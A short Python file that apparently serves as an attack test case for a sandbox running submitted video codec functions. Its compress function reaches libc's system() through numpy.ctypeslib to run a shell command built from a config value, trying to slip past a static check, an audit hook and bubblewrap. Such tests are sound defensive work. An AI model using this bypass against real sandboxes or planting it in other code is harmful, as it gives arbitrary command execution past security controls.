# ATTACK: call libc's system() through ctypes reached from numpy.ctypeslib.
# Layers: static check (attribute `ctypeslib`); audit hook (ctypes.dlopen in codec phase); bubblewrap.
import numpy as np


def compress_video_frame(frame, frame_index, config):
    libc = np.ctypeslib.ctypes.CDLL(None)
    libc.system(("touch " + config["outPath"]).encode())
    return b"\1"


def decompress_video_frame(compressed_data, frame_index, config):
    return np.zeros((config["height"], config["width"], 3), np.uint8)
